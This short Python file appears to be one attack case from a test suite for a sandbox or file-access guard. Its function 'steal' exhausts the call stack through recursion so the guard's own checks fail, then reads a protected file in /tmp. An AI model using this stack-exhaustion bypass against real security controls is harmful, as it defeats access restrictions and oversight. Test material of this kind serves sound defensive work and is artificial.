# class: switch_off
# rule: read_write_tmp
# success: a file in /tmp is read at the end of the stack, where the guard's own calls fail
# proof: read
import sys

from attack import FILE, attempt

found = []


def deeper(opener):
    try:
        deeper(opener)
    except RecursionError:
        if not found:
            # One frame further up with each attempt that fails for want of stack.
            try:
                found.append(opener(FILE).read())
            except OSError as error:
                found.append(str(error))


@attempt
def steal():
    sys.setrecursionlimit(200)
    try:
        deeper(open)
    finally:
        sys.setrecursionlimit(1000)
    return found[0] if found else ""
